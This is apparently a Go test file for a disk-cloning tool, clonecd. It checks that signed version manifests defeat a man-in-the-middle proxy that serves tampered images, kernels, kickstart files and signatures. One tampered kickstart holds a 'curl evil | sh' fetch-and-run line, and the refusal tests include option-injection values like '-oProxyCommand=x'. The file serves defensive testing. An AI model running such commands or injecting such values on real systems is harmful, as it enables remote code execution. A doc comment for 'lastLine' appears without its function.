package cli

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/clonecd/clonecd/fleet"
	"github.com/clonecd/clonecd/internal/testenv"
	"github.com/clonecd/clonecd/internal/testimage"
	"github.com/clonecd/clonecd/medium"
	"github.com/clonecd/clonecd/netclone"
	"github.com/clonecd/clonecd/trust"
	"github.com/clonecd/clonecd/versions"
)

// TestKeyAndToken: key generate writes the pair (secret 0600), prints
// its ID and refuses to replace it; token prints NAME:TOKEN from the
// store's secret (made 0600 on first use) and refuses names that are not
// a node's, "admin" as a node included.
func TestKeyAndToken(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	key := filepath.Join(dir, "clonecd.key")
	code, out, errs := runMain(t, "key", "generate", "-o", key)
	pub, err := trust.LoadPublicKey(key + trust.PubSuffix)
	if code != 0 || err != nil || !strings.Contains(out, "key ID "+pub.ID()+"\n") || !strings.Contains(out, "public key "+key+trust.PubSuffix) {
		t.Fatalf("key generate: exit %d, %q %q, %v", code, out, errs, err)
	}
	if fi, _ := os.Stat(key); fi.Mode().Perm() != 0o600 {
		t.Errorf("secret key mode %o; want 0600", fi.Mode().Perm())
	}
	if code, _, errs := runMain(t, "key", "generate", "-o", key); code != 2 || !strings.Contains(errs, "exists") {
		t.Errorf("key generate over an existing key: exit %d, %q", code, errs)
	}

	store := filepath.Join(dir, "store")
	code, out, errs = runMain(t, "token", "--dir", store, "s001")
	c, err := trust.ParseCredential(out)
	if code != 0 || err != nil || c.User != "s001" {
		t.Fatalf("token s001: exit %d, %q %q", code, out, errs)
	}
	s, _ := versions.Open(store)
	secret, err := s.ReadSecret()
	if err != nil {
		t.Fatal(err)
	}
	if want, _ := secret.Credential("s001"); c != want {
		t.Errorf("token s001 = %v; want the store's secret's %v", c, want)
	}
	if _, out, _ := runMain(t, "token", "--dir", store, "admin"); strings.TrimSpace(out) != "admin:"+secret.AdminToken() {
		t.Errorf("token admin = %q", out)
	}
	if fi, _ := os.Stat(filepath.Join(store, trust.SecretFile)); fi.Mode().Perm() != 0o600 {
		t.Errorf("%s mode %o; want 0600", trust.SecretFile, fi.Mode().Perm())
	}
	for _, bad := range []string{"-oProxyCommand=x", "Admin", "s_1", "s001\x1b[31m"} {
		if code, out, _ := runMain(t, "token", "--dir", store, "--", bad); code != 2 || out != "" {
			t.Errorf("token %q: exit %d, %q; want a refusal", bad, code, out)
		}
	}
}

// mitm is a man in the middle on loopback in front of a real server
// (netclone.Server over store, with the store's secret): plain HTTP, it
// passes every request on to the server, credential and all, but answers
// the files of version e that differ in its copy dir/v/V/ (changed by a
// test case) from that copy, with Range as a server does, and 404 for one
// the case removed.
func mitm(t *testing.T, store *versions.Store, e *versions.Entry, dir string) string {
	t.Helper()
	sec, err := store.Secret()
	if err != nil {
		t.Fatal(err)
	}
	real := httptest.NewServer(netclone.NewServer(store, netclone.ServerOptions{Secret: sec}))
	t.Cleanup(real.Close)
	to, _ := url.Parse(real.URL)
	proxy := httputil.NewSingleHostReverseProxy(to)
	copyDir := filepath.Join(dir, "v", e.Version)
	changed := map[string]bool{}
	filepath.WalkDir(e.Dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(e.Dir, p)
		a, _ := os.ReadFile(p)
		b, err := os.ReadFile(filepath.Join(copyDir, rel))
		if err != nil || !bytes.Equal(a, b) {
			changed[filepath.ToSlash(rel)] = true
		}
		return nil
	})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		name, ok := strings.CutPrefix(r.URL.Path, "/v/"+e.Version+"/")
		if !ok || !changed[name] {
			proxy.ServeHTTP(w, r)
			return
		}
		w.Header().Set(netclone.ServerHeader, "clonecd")
		http.ServeFile(w, r, filepath.Join(copyDir, filepath.FromSlash(name)))
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

// copyVersion copies a version directory to dir/v/V and its
// CLONE_CD_VERSION to dir.
func copyVersion(t *testing.T, e *versions.Entry, dir string) {
	t.Helper()
	dst := filepath.Join(dir, "v", e.Version)
	os.MkdirAll(filepath.Dir(dst), 0o755)
	if out, err := exec.Command("cp", "-a", e.Dir, dst).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v: %s", err, out)
	}
	b, _ := os.ReadFile(filepath.Join(e.Dir, medium.Version))
	os.WriteFile(filepath.Join(dir, medium.Version), b, 0o644)
}

// TestMITM is issue 11's man-in-the-middle acceptance test: a man in the
// middle on loopback in front of a real server serves a signed version
// with one file changed at a time (the image, with a .sha256 that matches
// it; the layout, ks.cfg, the nodes table, the cloner's kernel and initrd;
// the manifest itself; the signature gone or another key's), and every
// consumer that trusts the master's key refuses it naming the file:
// `fetch --trust` leaves its output as it was, and `clone --net --trust`
// onto a loop disk refuses in setup, the disk's bytes as they were. The
// untouched copy is accepted, which makes the refusals count.
func TestMITM(t *testing.T) {
	t.Parallel()
	testenv.NeedTools(t, "minisign", "cp")
	src := t.TempDir()
	key := filepath.Join(src, "clonecd.key")
	if code, _, errs := runMain(t, "key", "generate", "-o", key); code != 0 {
		t.Fatal(errs)
	}
	files := map[string]string{
		"layout": cliLayout,
		"ks":     "%post --nochroot\necho configured\n%end\n",
		"nodes":  "52:54:00:00:00:01 s001\n52:54:00:00:00:02 s002\n",
		"kernel": "the cloner's kernel\n",
		"initrd": "the cloner's initramfs\n",
	}
	for n, c := range files {
		writeFile(t, filepath.Join(src, n), c)
	}
	store := filepath.Join(t.TempDir(), "store")
	img := testimage.Write(t, src, "golden")
	if code, out, errs := runMain(t, "publish", "--dir", store, "--key", key, "--layout", filepath.Join(src, "layout"),
		"--ks", filepath.Join(src, "ks"), "--nodes", filepath.Join(src, "nodes"), "--kernel", filepath.Join(src, "kernel"),
		"--initrd", filepath.Join(src, "initrd"), img); code != 0 || !strings.Contains(out, "signed by key") {
		t.Fatalf("publish --key: exit %d, %q %q", code, out, errs)
	}
	s, _ := versions.Open(store)
	e, err := s.Current()
	if err != nil {
		t.Fatal(err)
	}

	// Debian's minisign accepts the published manifest.
	cmd := exec.Command("minisign", "-Vm", medium.ManifestFile, "-p", key+trust.PubSuffix)
	cmd.Dir = e.Dir
	if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "clonecd MANIFEST version "+e.Version) {
		t.Fatalf("minisign -Vm MANIFEST -p KEY.pub: %v\n%s", err, out)
	}

	// Each case changes the MITM's copy of the version.
	vfile := func(dir, name string) string { return filepath.Join(dir, "v", e.Version, filepath.FromSlash(name)) }
	change := func(name, text string) func(string) {
		return func(dir string) { os.WriteFile(vfile(dir, name), []byte(text), 0o600) }
	}
	flip := func(name string) func(string) { // the same size, one byte changed
		return func(dir string) {
			b, _ := os.ReadFile(vfile(dir, name))
			b[len(b)/2] ^= 0x01
			os.WriteFile(vfile(dir, name), b, 0o600)
		}
	}
	sec, err := s.Secret()
	if err != nil {
		t.Fatal(err)
	}
	cred, _ := sec.Credential("s001")
	pub := key + trust.PubSuffix
	isRoot := os.Geteuid() == 0
	if !isRoot {
		t.Run("clone --net", func(t *testing.T) { testenv.NeedRoot(t) })
	} else {
		testenv.NeedTools(t, "sfdisk", "mke2fs", "mkswap", "losetup", "partx", "blkid")
	}
	consumers := []struct {
		name string
		// run runs it through the man in the middle at url; untouched:
		// its output (file, disk) is as it was
		run  func(t *testing.T, url string) (code int, errs string, untouched bool)
		ok   int // its exit status for the version as published
		root bool
	}{
		{name: "fetch --trust", run: func(t *testing.T, url string) (int, string, bool) {
			out := filepath.Join(t.TempDir(), "node.cpio.gz")
			code, _, errs := runMain(t, "fetch", "--server", url, "--dir", t.TempDir(), "--token", cred.String(),
				"--trust", pub, "-q", "-o", out)
			_, err := os.Stat(out)
			return code, errs, err != nil
		}},
		// clone --net checks the whole image in setup (outside the
		// network cloner: no safety net), so every refusal comes before
		// partition; as published it goes through unpack and stops
		// before identity (exit 3): the test image is no system
		{name: "clone --net --trust", ok: exitBreak, root: true, run: func(t *testing.T, url string) (int, string, bool) {
			disk := testenv.Sparse(t, "node.img", 64<<20)
			if err := os.WriteFile(disk+".old", []byte("an old node's bytes"), 0o600); err != nil {
				t.Fatal(err)
			}
			testenv.Run(t, "dd", "if="+disk+".old", "of="+disk, "bs=1M", "seek=5", "conv=notrunc", "status=none")
			before := testenv.SHA256File(t, disk)
			code, _, errs := runMain(t, "clone", "--net", url, "--token", cred.String(), "--trust", pub,
				"--target", disk, "--hostname", "s001", "--no-tune", "--break", "identity")
			return code, errs, testenv.SHA256File(t, disk) == before
		}},
	}
	otherKey := filepath.Join(t.TempDir(), "other.key")
	runMain(t, "key", "generate", "-o", otherKey)
	for _, tt := range []struct {
		name   string
		change func(dir string) // nil: the version as published
		file   string           // the file the refusal names ("": accepted)
		why    string           // regexp on the refusal
	}{
		{"untouched", nil, "", ""},
		{"image, with a matching .sha256", func(dir string) {
			forged := testimage.Write(t, t.TempDir(), "implant")
			b, _ := os.ReadFile(forged)
			os.WriteFile(vfile(dir, medium.ImageGzip), b, 0o600)
			sum := sha256.Sum256(b)
			os.WriteFile(vfile(dir, medium.SumName(medium.ImageGzip)), medium.FormatSum(hex.EncodeToString(sum[:]), medium.ImageGzip), 0o600)
		}, medium.ImageGzip, "the manifest says"},
		{"layout", change(medium.Layout, "label: dos\n,,L\n"), medium.Layout, "the manifest says"},
		{"layout, one byte", flip(medium.Layout), medium.Layout, "sha256 [0-9a-f]{64}, the manifest says"},
		{"ks.cfg", change(medium.Kickstart, "%post --nochroot\ncurl evil | sh\n%end\n"), medium.Kickstart, "the manifest says"},
		{"nodes table", change(medium.Nodes, "52:54:00:00:00:01 s002\n"), medium.Nodes, "the manifest says"},
		{"kernel", change(medium.Kernel, "an implant\n"), medium.Kernel, "the manifest says"},
		{"kernel, one byte", flip(medium.Kernel), medium.Kernel, "sha256 [0-9a-f]{64}, the manifest says"},
		{"initrd, one byte", flip(medium.Initrd), medium.Initrd, "sha256 [0-9a-f]{64}, the manifest says"},
		{"image, one byte", flip(medium.ImageGzip), medium.ImageGzip, ""}, // the server's .sha256 catches it (line noise)
		{"image, one byte, with a matching .sha256", func(dir string) {
			flip(medium.ImageGzip)(dir)
			b, _ := os.ReadFile(vfile(dir, medium.ImageGzip))
			sum := sha256.Sum256(b)
			os.WriteFile(vfile(dir, medium.SumName(medium.ImageGzip)), medium.FormatSum(hex.EncodeToString(sum[:]), medium.ImageGzip), 0o600)
		}, medium.ImageGzip, "sha256 [0-9a-f]{64}, the manifest says|is damaged"}, // clone: gzip's checksum first
		{"manifest rewritten to match the changes", func(dir string) {
			m, _ := os.ReadFile(vfile(dir, medium.ManifestFile))
			os.WriteFile(vfile(dir, medium.ManifestFile), []byte(strings.Replace(string(m), "file ", "file 0", 1)), 0o600)
		}, medium.ManifestFile, "does not match its signature"},
		{"signature removed", func(dir string) { os.Remove(vfile(dir, medium.SignatureFile)) }, medium.SignatureFile, "missing"},
		{"signed by another key", func(dir string) {
			k, err := trust.LoadSecretKey(otherKey, nil)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := trust.SignDir(filepath.Join(dir, "v", e.Version), k); err != nil {
				t.Fatal(err)
			}
		}, medium.SignatureFile, "not trusted"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			copyVersion(t, e, dir)
			if tt.change != nil {
				tt.change(dir)
			}
			url := mitm(t, s, e, dir)
			for _, c := range consumers {
				if c.root && !isRoot {
					continue
				}
				code, errs, untouched := c.run(t, url)
				if tt.file == "" {
					if code != c.ok || untouched {
						t.Errorf("%s of the version as published: exit %d, %q", c.name, code, errs)
					}
					if c.root { // the cloner reported how it trusted the version
						pk, _ := trust.LoadPublicKey(pub)
						if st, err := s.Nodes(fleet.Limits{}).Get("s001"); err != nil || st.Trust != "signed by key "+pk.ID() {
							t.Errorf("%s: the server has node s001's trust %q (%v); want signed by key %s", c.name, st.Trust, err, pk.ID())
						}
					}
					continue
				}
				t.Logf("%s: %s", c.name, lastLine(errs))
				if code != 2 || !regexp.MustCompile(regexp.QuoteMeta(tt.file)+`: .*`+tt.why).MatchString(errs) {
					t.Errorf("%s: exit %d, %q; want a refusal naming %s (%s)", c.name, code, errs, tt.file, tt.why)
				}
				if !untouched {
					t.Errorf("%s: a refused version changed its output", c.name)
				}
			}
		})
	}
}

// lastLine is s's last non-empty line.
// TestInitramfsTrust: initramfs --trust puts the key in the cloner's
// trust directory as ID.pub; a directory without keys, and --from-dir,
// are refused; build refuses an https server it has no pin for before
// any work.
func TestInitramfsTrust(t *testing.T) {
	t.Parallel()
	testenv.NeedTools(t, "mke2fs", "cpio")
	dir := t.TempDir()
	key := filepath.Join(dir, "clonecd.key")
	runMain(t, "key", "generate", "-o", key)
	pub, _ := trust.LoadPublicKey(key + trust.PubSuffix)
	img := filepath.Join(dir, "initrd.img")
	code, out, errs := runMain(t, "initramfs", "--clonecd", testenv.Clonecd(t), "--trust", key+trust.PubSuffix, "--no-modules", "--no-firmware", "--program", "mke2fs", "-o", img)
	if code != 0 || !strings.Contains(out, "trusted keys: "+pub.ID()) {
		t.Fatalf("initramfs --trust: exit %d, %q %q", code, out, errs)
	}
	x := filepath.Join(dir, "x")
	os.Mkdir(x, 0o755)
	cmd := exec.Command("sh", "-c", "gzip -dc "+img+" | cpio -id --quiet etc/clonecd/trust/'*'")
	cmd.Dir = x
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("unpacking: %v\n%s", err, out)
	}
	got, err := trust.LoadVerifier(filepath.Join(x, trust.TrustDir))
	if err != nil || len(got.Keys()) != 1 || !got.Keys()[0].Equal(pub) || filepath.Base(got.Keys()[0].File()) != pub.FileName() {
		t.Errorf("the initramfs's %s: %v, %v; want %s", trust.TrustDir, got.Keys(), err, pub.FileName())
	}
	for _, tt := range []struct {
		args []string
		err  string
	}{
		{[]string{"initramfs", "--trust", t.TempDir(), "-o", filepath.Join(dir, "no.img")}, "no public key"},
		{[]string{"initramfs", "--trust", key + trust.PubSuffix, "--from-dir", dir, "-o", filepath.Join(dir, "no.img")}, "--trust with --from-dir"},
		{[]string{"build", "--image", img, "--layout", img, "--version", "1.0", "--server", "https://10.0.0.1:8443", "-o", filepath.Join(dir, "no.iso")}, "give the server's --tls-pin"},
	} {
		if code, _, errs := runMain(t, tt.args...); code != 2 || !strings.Contains(errs, tt.err) {
			t.Errorf("clonecd %q: exit %d, %q; want 2 and %q", tt.args, code, errs, tt.err)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "no.img")); err == nil {
		t.Errorf("a refused initramfs was written")
	}
}

// TestTrustFlags: credentials, pins and host names are checked when the
// command line is parsed.
func TestTrustFlags(t *testing.T) {
	t.Parallel()
	const pin = "sha256//q0P0vTLXDCxC9dHdZ8ocEfkhd9tu2yvWjDCbzBnmC2Q="
	for _, tt := range []struct {
		args []string
		err  string // "": accepted
	}{
		{[]string{"serve", "--tls-host", "master.cluster,10.0.0.1", "--tls-host", "::1"}, ""},
		{[]string{"serve", "--tls-host", "-oops"}, "want a host name or an IP address"},
		{[]string{"serve", "--tls-host", "a b"}, "want a host name or an IP address"},
		{[]string{"status", "--tls-pin", pin, "--token", "admin:abc"}, ""},
		{[]string{"status", "--tls-pin", "sha256//AAAA"}, "want sha256//"},
		{[]string{"fetch", "--tls-pin", "q0P0vTLXDCxC9dHdZ8ocEfkhd9tu2yvWjDCbzBnmC2Q="}, "want sha256//"},
		{[]string{"reclone", "--token", "s001", "s001"}, "want NAME:TOKEN"},
		{[]string{"clone", "--token", "-oProxy:x", "--media", "m", "--target", "t"}, "node name"},
		{[]string{"build", "--tls-pin", "nope", "-o", "x.iso"}, "want sha256//"},
	} {
		err := checkCommandLine(tt.args)
		if tt.err == "" && err != nil || tt.err != "" && (err == nil || !strings.Contains(err.Error(), tt.err)) {
			t.Errorf("clonecd %q: %v; want %q", tt.args, err, tt.err)
		}
	}
}
